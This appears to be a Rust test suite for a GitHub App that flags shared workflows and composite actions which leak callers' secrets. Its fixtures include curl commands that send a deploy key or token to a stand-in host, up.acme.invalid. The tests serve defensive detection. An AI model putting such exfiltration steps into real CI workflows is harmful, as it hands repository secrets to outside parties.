//! Workflows and actions of other repositories: what they do is seen by whoever calls them.

use github_sim::{Repository, Visibility};

use super::*;
use crate::support::databases::on_each_database;

pub(super) const DEPLOY_YML: &str = ".github/workflows/deploy.yml";

pub(super) const CI_YML: &str = ".github/workflows/ci.yml";

/// A workflow that others call, and that does nothing yet.
pub(super) const HARMLESS: &str = "\
name: deploy
on: workflow_call
permissions:
  contents: read
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - run: make deploy
";

/// The same with a step that sends a secret of the caller away.
pub(super) const SENDING: &str = "\
name: deploy
on: workflow_call
permissions:
  contents: read
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - run: curl -d \"${{ secrets.DEPLOY_KEY }}\" https://up.acme.invalid/
";

/// A workflow that calls it at a reference.
pub(super) fn calling(reference: &str) -> String {
    format!(
        "name: ci\non: push\npermissions:\n  contents: read\njobs:\n  build:\n    uses: \
         acme/shared/.github/workflows/deploy.yml@{reference}\n    secrets: inherit\n"
    )
}

/// `acme` as installed with `--mode require`, and a private repository `shared` with the file.
pub(super) async fn sharing(base: &Base, file: &str) -> Product {
    let shared = Repository {
        name: "shared".to_owned(),
        id: Some(410),
        files: [(DEPLOY_YML.to_owned(), file.to_owned())].into(),
        ..Repository::default()
    };
    let setup = Setup::on(base).policy(|policy| policy.default_mode = Mode::Require);
    let product = setup.seed(|seed| seed.repository(shared)).start().await;
    product.github.lets_others_call("acme/shared");
    product
}

pub(super) fn in_shared(
    product: &Product,
    branch: &str,
    files: &[(&str, &str)],
    login: &str,
) -> String {
    let push = files
        .iter()
        .fold(Push::to("acme/shared", branch), |push, (path, text)| push.writes(path, text));
    product.github.pushes(&push, login)
}

#[tokio::test]
async fn what_a_workflow_of_another_repository_does_is_asked_about_where_it_is_called() {
    on_each_database(|base| async move {
        let product = sharing(&base, SENDING).await;
        let number = proposes(&product, "ci", &[(CI_YML, &calling("main"))], "hubot");
        reads(&product).await;
        assert_eq!(conclusion(&product, number), "failure");
        let told = lines(&product, number);
        assert!(
            told.iter().any(|(line, body)| *line == Some(7)
                && body.contains("DEPLOY_KEY")
                && body.contains("up.acme.invalid")),
            "{told:#?}"
        );
        product.github.finish();
    })
    .await;
}

#[tokio::test]
async fn another_commit_of_a_workflow_is_asked_about_for_what_it_does() {
    on_each_database(|base| async move {
        let product = sharing(&base, HARMLESS).await;
        let (was, harmless, sending) = (
            in_shared(&product, "main", &[("README.md", "a\n")], "octocat"),
            in_shared(&product, "main", &[("README.md", "b\n")], "octocat"),
            in_shared(&product, "next", &[(DEPLOY_YML, SENDING)], "monalisa"),
        );
        pushes(&product, "main", &[(CI_YML, &calling(&was))], "octocat");
        reads(&product).await;
        let quiet = proposes(&product, "quiet", &[(CI_YML, &calling(&harmless))], "hubot");
        let loud = proposes(&product, "loud", &[(CI_YML, &calling(&sending))], "hubot");
        reads(&product).await;
        assert_eq!(conclusion(&product, quiet), "success", "it does the same");
        assert_eq!(conclusion(&product, loud), "failure");
        assert!(check(&product, loud).summary.contains("up.acme.invalid"));
        product.github.finish();
    })
    .await;
}

#[tokio::test]
async fn what_cannot_be_read_of_another_repository_is_unknown() {
    on_each_database(|base| async move {
        let product = sharing(&base, HARMLESS).await;
        let nowhere = "acme/gone/.github/workflows/deploy.yml@main";
        let gone =
            calling("main").replace("acme/shared/.github/workflows/deploy.yml@main", nowhere);
        let other = calling("v9");
        for (branch, file, why) in [
            ("gone", &gone, "its repository is not shown to this App"),
            ("other", &other, "has no such reference"),
        ] {
            let number = proposes(&product, branch, &[(CI_YML, file)], "hubot");
            reads(&product).await;
            let check = check(&product, number);
            assert_ne!(check.conclusion.as_deref(), Some("success"), "{branch}: {check:?}");
            assert!(check.summary.contains(why), "{branch}: {}", check.summary);
        }
        product.github.finish();
    })
    .await;
}

#[tokio::test]
async fn nobody_learns_from_us_what_a_repository_holds_that_they_may_not_call() {
    on_each_database(|base| async move {
        let product = sharing(&base, SENDING).await;
        product.github.creates_repository("acme/closed", Visibility::Private, "octocat");
        let files = Push::to("acme/closed", "main").writes(DEPLOY_YML, SENDING);
        product.github.pushes(&files, "octocat");
        // A private repository that keeps its workflows to itself, asked from a private one.
        let to_closed = calling("main").replace("acme/shared", "acme/closed");
        let private = proposes(&product, "peek", &[(CI_YML, &to_closed)], "hubot");
        // One that shares them with private ones, and one that is not there, from a public one.
        let mut public = Vec::new();
        for (branch, repo) in [("one", "acme/shared"), ("two", "acme/gone")] {
            let file = calling("main").replace("acme/shared", repo);
            product.github.pushes(&Push::to("acme/site", branch).writes(CI_YML, &file), "hubot");
            public.push(product.github.opens_pull("acme/site", branch, "A change", "hubot"));
        }
        reads(&product).await;
        let said = check(&product, private).summary;
        assert!(said.contains("its repository lets no other one call it"), "{said}");
        assert!(!said.contains("DEPLOY_KEY"), "{said}");
        let said = public.iter().map(|number| {
            let head = product.github.pull("acme/site", *number).head_sha;
            let checks = product.github.checks("acme/site", &head);
            let ours = checks.into_iter().find(|check| check.app == "beholden").unwrap();
            let lines = ours.summary.lines().filter(|line| line.starts_with("- "));
            lines.map(|line| line.replace("shared", "gone")).collect::<Vec<_>>()
        });
        let said: Vec<_> = said.collect();
        assert_eq!(said[0], said[1], "whether it is there is not told either");
        assert!(said[0].concat().contains("not everybody can read its repository"), "{said:#?}");
        product.github.finish();
    })
    .await;
}

/// `acme/api`, private, and `acme/site`, public, call the workflow on its main branch. A public
/// repository may call it once that is public too.
async fn called_by_two(product: &Product) {
    product.github.makes_public("acme/shared", "octocat");
    reads(product).await;
    pushes(product, "main", &[(CI_YML, &calling("main"))], "octocat");
    let site = Push::to("acme/site", "main").writes(CI_YML, &calling("refs/heads/main"));
    product.github.pushes(&site, "octocat");
    reads(product).await;
}

pub(super) fn shared_check(product: &Product, number: u64) -> CheckView {
    let head = product.github.pull("acme/shared", number).head_sha;
    let checks = product.github.checks("acme/shared", &head);
    let ours = checks.into_iter().filter(|check| check.app == "beholden");
    ours.max_by_key(|check| check.id).unwrap()
}

pub(super) fn in_home(product: &Product) -> Vec<github_sim::IssueView> {
    let mut issues = product.ours("acme/home");
    issues.retain(|issue| issue.title.contains("workflows of private repositories"));
    issues
}

#[tokio::test]
async fn a_change_of_a_shared_workflow_is_weighed_for_those_who_call_it() {
    on_each_database(|base| async move {
        let product = sharing(&base, HARMLESS).await;
        called_by_two(&product).await;
        in_shared(&product, "next", &[(DEPLOY_YML, SENDING)], "hubot");
        let number = product.github.opens_pull("acme/shared", "next", "Faster", "hubot");
        reads(&product).await;

        let check = shared_check(&product, number);
        assert_eq!(check.conclusion.as_deref(), Some("failure"), "{}", check.summary);
        let review = product.github.reviews("acme/shared", number).remove(0).body;
        let comments = product.github.line_comments("acme/shared", number);
        let comments: Vec<String> = comments.into_iter().map(|comment| comment.body).collect();
        let said = format!("{}\n{review}\n{}", check.summary, comments.join("\n"));
        assert!(said.contains("`acme/site`") && said.contains("1 private repository"), "{said}");
        assert!(said.contains("DEPLOY_KEY") && said.contains("up.acme.invalid"), "{said}");
        assert!(!said.contains("acme/api"), "a private one is named in home only: {said}");
        let home = in_home(&product);
        assert_eq!(home.len(), 1, "{home:#?}");
        assert!(home[0].open && home[0].body.contains("`acme/api`"), "{}", home[0].body);
        assert!(!home[0].body.contains("acme/site"), "{}", home[0].body);

        // A push that takes it back ends all of it.
        in_shared(&product, "next", &[(DEPLOY_YML, HARMLESS)], "hubot");
        reads(&product).await;
        assert_eq!(shared_check(&product, number).conclusion.as_deref(), Some("success"));
        assert!(!in_home(&product)[0].open);
        product.github.finish();
    })
    .await;
}

#[tokio::test]
async fn who_answers_for_a_shared_workflow_is_not_asked_again_when_it_is_merged() {
    on_each_database(|base| async move {
        let product = sharing(&base, HARMLESS).await;
        pushes(&product, "main", &[(CI_YML, &calling("main"))], "octocat");
        reads(&product).await;
        in_shared(&product, "next", &[(DEPLOY_YML, SENDING)], "hubot");
        let number = product.github.opens_pull("acme/shared", "next", "Faster", "hubot");
        reads(&product).await;
        let waits = shared_check(&product, number);
        assert_eq!(waits.conclusion.as_deref(), Some("failure"), "{}", waits.summary);
        product.github.comments("acme/shared", number, "octocat", "/own all because it is ours");
        reads(&product).await;
        let run = shared_check(&product, number);
        product.github.presses_check_button("acme/shared", run.id, "accept", "octocat");
        reads(&product).await;
        let run = shared_check(&product, number);
        assert_eq!(run.conclusion.as_deref(), Some("success"), "{}", run.summary);
        product.github.merges_pull("acme/shared", number, "octocat");
        reads(&product).await;
        assert!(product.ours("acme/shared").is_empty(), "{:#?}", product.ours("acme/shared"));
        assert!(!in_home(&product)[0].open, "it is merged");
        product.github.finish();
    })
    .await;
}

#[tokio::test]
async fn a_shared_workflow_that_is_changed_past_everybody_is_asked_about_once() {
    on_each_database(|base| async move {
        let product = sharing(&base, HARMLESS).await;
        pushes(&product, "main", &[(CI_YML, &calling("main"))], "octocat");
        reads(&product).await;
        in_shared(&product, "main", &[(DEPLOY_YML, SENDING)], "monalisa");
        reads(&product).await;
        let issues = product.ours("acme/shared");
        assert_eq!(issues.len(), 1, "{issues:#?}");
        assert!(issues[0].body.contains("1 private repository"), "{}", issues[0].body);
        assert!(!issues[0].body.contains("acme/api"), "{}", issues[0].body);
        let home = in_home(&product);
        assert_eq!(home.len(), 1, "{home:#?}");
        assert!(home[0].body.contains("`acme/api`"), "{}", home[0].body);
        product.github.finish();
    })
    .await;
}

#[tokio::test]
async fn an_action_that_others_use_is_weighed_with_the_script_beside_it() {
    on_each_database(|base| async move {
        let product = sharing(&base, HARMLESS).await;
        let action = "name: up\ninputs:\n  token:\n    required: true\nruns:\n  using: composite\n  steps:\n    - run: ${{ github.action_path }}/up.sh\n      shell: bash\n      env:\n        TOKEN: ${{ inputs.token }}\n";
        let quiet = [("up/action.yml", action), ("up/up.sh", "echo up\n")];
        in_shared(&product, "main", &quiet, "octocat");
        reads(&product).await;
        let ci = "name: ci\non: push\npermissions: {}\njobs:\n  up:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: acme/shared/up@main\n        with:\n          token: ${{ secrets.UP }}\n";
        pushes(&product, "main", &[(CI_YML, ci)], "octocat");
        reads(&product).await;
        let loud = "curl -H \"T: $TOKEN\" https://up.acme.invalid/\n";
        in_shared(&product, "next", &[("up/up.sh", loud)], "hubot");
        let number = product.github.opens_pull("acme/shared", "next", "Faster", "hubot");
        reads(&product).await;
        let check = shared_check(&product, number);
        assert_eq!(check.conclusion.as_deref(), Some("failure"), "{}", check.summary);
        let home = in_home(&product);
        assert_eq!(home.len(), 1, "{home:#?}");
        assert!(home[0].body.contains("up.acme.invalid"), "{}", home[0].body);
        product.github.finish();
    })
    .await;
}
